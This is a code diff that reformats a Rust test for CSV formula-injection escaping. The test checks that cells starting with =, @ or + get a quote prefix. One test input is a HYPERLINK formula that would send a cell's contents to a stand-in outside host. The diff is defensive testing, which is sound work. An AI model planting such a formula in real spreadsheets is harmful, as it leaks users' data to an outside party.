@@ -75,7 +75,10 @@ mod tests {
 
     #[test]
     fn no_cell_is_a_formula_and_numbers_stay_numbers() {
-        gives("=HYPERLINK(\"https://sink.example/\"&A1,\"x\")", "\"'=HYPERLINK(\"\"https://sink.example/\"\"&A1,\"\"x\"\")\"");
+        gives(
+            "=HYPERLINK(\"https://sink.example/\"&A1,\"x\")",
+            "\"'=HYPERLINK(\"\"https://sink.example/\"\"&A1,\"\"x\"\")\"",
+        );
         gives("@SUM(A1)", "'@SUM(A1)");
         gives("+1 555", "'+1 555");
         gives(" =1+1", "' =1+1");
